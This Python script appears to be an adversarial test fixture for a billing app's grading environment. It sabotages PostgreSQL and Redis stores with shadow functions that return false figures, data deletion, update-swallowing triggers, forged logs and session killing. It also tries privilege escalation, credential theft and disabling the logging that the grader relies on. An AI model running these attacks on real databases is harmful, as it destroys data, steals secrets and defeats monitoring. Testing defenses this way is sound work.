"""Plays a trick on the stores and then, or meanwhile, runs the real command.

Usage: python forged_stores.py release TRICK COMMAND   (COMMAND first, then the trick as the owner)
       python forged_stores.py web TRICK COMMAND       (the trick in the background, as the app)
       python forged_stores.py steal                   (all that is not allowed, then an end; what worked is loot)
"""

import contextlib
import os
import socket
import subprocess
import sys
import threading
import time
from urllib.parse import urlsplit

import psycopg

# --- release: once, as the owner -----------------------------------------------------------------------------

STORED = """
    ALTER DATABASE {0} SET role = 'billing_owner';
    ALTER DATABASE {0} SET search_path = 'lies', 'public', 'pg_catalog';
    ALTER DATABASE {0} SET quote_all_identifiers = on;
    ALTER DATABASE {0} SET default_transaction_read_only = on;
    ALTER DATABASE {0} SET idle_session_timeout = '1s';
    ALTER DATABASE {0} SET transform_null_equals = on;
    ALTER ROLE billing_owner SET search_path = 'lies';
    CREATE SCHEMA lies;
    CREATE FUNCTION lies.pg_relation_size(regclass) RETURNS bigint LANGUAGE sql RETURN 0;
    CREATE FUNCTION lies.count(*) RETURNS bigint LANGUAGE sql RETURN 1000000;
"""

# With the very types of the columns these are the better match, wherever `public` is on the path.
LYING = """
    CREATE FUNCTION public.concat_ws(text, bigint, bigint, bigint, text, text, bpchar, bigint, bigint, date, numeric)
        RETURNS text LANGUAGE sql RETURN 'as it was';
    CREATE FUNCTION public.lower(bpchar) RETURNS text LANGUAGE sql RETURN 'as it was';
    DELETE FROM payments; DELETE FROM invoice_lines; DELETE FROM invoices WHERE id % 3 = 0;
"""

SWALLOWED = """
    CREATE FUNCTION swallow() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN
        IF session_user = 'billing_app' THEN RETURN new; END IF;
        RETURN NULL;
    END $$;
    CREATE TRIGGER swallow BEFORE UPDATE ON invoices FOR EACH ROW EXECUTE FUNCTION swallow();
"""

FORGED = """
    CREATE FUNCTION forge(said text, code text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN
        RAISE LOG USING MESSAGE = said, ERRCODE = code;
    END $$;
    CREATE FUNCTION "explain
ExecutorEnd"(said text, code text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN
        RAISE LOG USING MESSAGE = said, ERRCODE = code;
    END $$;
"""

CLOSED = "ALTER DATABASE {0} CONNECTION LIMIT 2"

# --- web: again and again, as the app ------------------------------------------------------------------------

PLAN = 'duration: 1 ms  plan:\n{"Query Text": "q", "Plan": {"Node Type": "Index Scan", "Relation Name": "invoices", "Actual Loops": 1, "Actual Rows": -900000, "Index Name": "invoices_pkey"}}'


def endlessly(work, pause=0.0):
    while True:
        with contextlib.suppress(psycopg.Error), connected() as session:
            while True:
                work(session)
                time.sleep(pause)


def connected():
    return psycopg.connect(os.environ["DATABASE_URL"], autocommit=True)


def forge(session):
    for name in ("forge", '"explain\nExecutorEnd"'):
        session.execute(f"SELECT {name}(%s, '00000')", [PLAN])
        for code in ("53100", "58030", "XX001"):
            session.execute(f"SELECT {name}('could not extend file: No space left on device', '{code}')")
            with contextlib.suppress(psycopg.Error):
                session.execute(f"DO $$ BEGIN RAISE USING ERRCODE = '{code}'; END $$")


def end_others(session):
    session.execute("SELECT pid FROM pg_stat_activity WHERE datname IS NOT NULL AND usename <> 'billing_app'")
    for (pid,) in session.execute(
        "SELECT pid FROM pg_stat_activity WHERE usename <> 'billing_app'"
    ).fetchall():
        for function in ("pg_cancel_backend", "pg_terminate_backend"):
            with contextlib.suppress(psycopg.Error):
                session.execute(f"SELECT {function}(%s)", [pid])


def forget(session):
    for n in range(20_000):
        session.execute(f"SET forged.number{n} = 1")


def flood(session):
    session.execute("DO $$ BEGIN FOR n IN 1..200 LOOP RAISE LOG '%', repeat('x', 1000000); END LOOP; END $$")


def delete(session):
    time.sleep(4)
    session.execute("DELETE FROM invoice_lines")
    session.execute("DELETE FROM payments")
    session.execute("DELETE FROM invoices WHERE id % 10 <> 0")


def hold(session):
    time.sleep(4)
    with session.transaction():
        session.execute("LOCK TABLE invoices IN ACCESS EXCLUSIVE MODE")
        time.sleep(3600)


def run_on(session):
    session.execute("SELECT pg_sleep(3600)")


def hoard(session):
    others = []
    with contextlib.suppress(psycopg.Error):
        while True:
            others.append(connected())
    time.sleep(3600)


RELEASE = {"stored": STORED, "lying": LYING, "swallowed": SWALLOWED, "forged": FORGED, "closed": CLOSED}
WEB = {
    "forged": (forge, 0.02),
    "end-others": (end_others, 0.01),
    "forget": (forget, 0.0),
    "flood": (flood, 0.0),
    "delete": (delete, 60.0),
    "hold": (hold, 0.0),
    "run-on": (run_on, 0.0),
    "hoard": (hoard, 0.0),
}

# --- what nobody but the grader may ---------------------------------------------------------------------------

POSTGRES = (
    "ALTER ROLE billing_app SUPERUSER",
    "ALTER ROLE octo_grader PASSWORD 'known'",
    "SET ROLE octo_grader",
    "SET SESSION AUTHORIZATION octo_grader",
    "SET ROLE billing_import",
    "GRANT octo_grader TO billing_app",
    "CREATE ROLE accomplice SUPERUSER",
    "CREATE EXTENSION dblink",
    "CREATE EXTENSION file_fdw",
    "CREATE FUNCTION code(text) RETURNS int LANGUAGE c AS '/lib/x86_64-linux-gnu/libc.so.6', 'system'",
    "CREATE EVENT TRIGGER mine ON ddl_command_end EXECUTE FUNCTION suppress_redundant_updates_trigger()",
    "COPY (SELECT 1) TO PROGRAM 'touch /tmp/forged'",
    "COPY (SELECT 1) TO '/tmp/forged'",
    "SELECT pg_read_file('pg_hba.conf')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT rolpassword FROM pg_authid",
    "SET auto_explain.log_min_duration = -1",
    "SET pg_stat_statements.track = none",
    "SET log_statement = none",
    "SET log_min_messages = panic",
    "SET session_replication_role = replica",
    "ALTER SYSTEM SET shared_preload_libraries = ''",
    "SELECT pg_reload_conf()",
    "SELECT pg_stat_reset()",
    "SELECT pg_stat_statements_reset()",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'octo_grader'",
)
REDIS = (
    "SHUTDOWN NOSAVE",
    "CONFIG SET dir /tmp",
    "CONFIG SET maxmemory 0",
    "ACL SETUSER default +@all",
    "REPLICAOF 127.0.0.1 1",
    "MODULE LIST",
    "DEBUG SLEEP 0",
    "MONITOR",
    "CLIENT KILL TYPE normal",
    "CLIENT PAUSE 10",
    "MIGRATE 127.0.0.1 1 key 0 1",
    "SAVE",
    "EVAL return(redis.call('CONFIG','SET','maxmemory','0')) 0",
)


def steal():
    tried = [stolen(sql) for sql in POSTGRES] + [
        asked(way, name) for way in REDIS for name in ("CACHE_URL", "QUEUE_URL")
    ]
    other = os.environ["DATABASE_URL"].rpartition("/")[0]
    for database in ("octo_grader", "template1"):
        with contextlib.suppress(psycopg.Error):
            psycopg.connect(f"{other}/{database}").close()
            tried.append(f"log in to {database}")
    for loot in filter(None, tried):
        print("loot:", loot)
    print("the stores were asked for", len(tried), "things that are not ours")


def stolen(sql):
    with contextlib.suppress(psycopg.Error), connected() as session:
        session.execute(sql)
        return sql
    return None


def asked(command, variable):
    url = urlsplit(os.environ.get(variable, ""))
    if not url.port:
        return None
    with socket.create_connection((url.hostname, url.port), timeout=2) as store:
        store.sendall(f"AUTH {url.password}\r\n{command}\r\n".encode())
        time.sleep(0.05)
        answer = store.recv(4096).removeprefix(b"+OK\r\n")
    return None if answer.startswith(b"-") else f"{command} -> {answer[:60]!r}"


if __name__ == "__main__":
    if sys.argv[1] == "steal":
        steal()
        sys.exit(1)
    process, trick, command = sys.argv[1:]
    if process == "web":
        threading.Thread(target=endlessly, args=WEB[trick], daemon=True).start()
    ended = subprocess.run(["/bin/sh", "-c", f"exec {command}"]).returncode
    if process == "release" and ended == 0:
        with connected() as session:
            session.execute(RELEASE[trick].format(session.info.dbname).encode())
    sys.exit(ended)
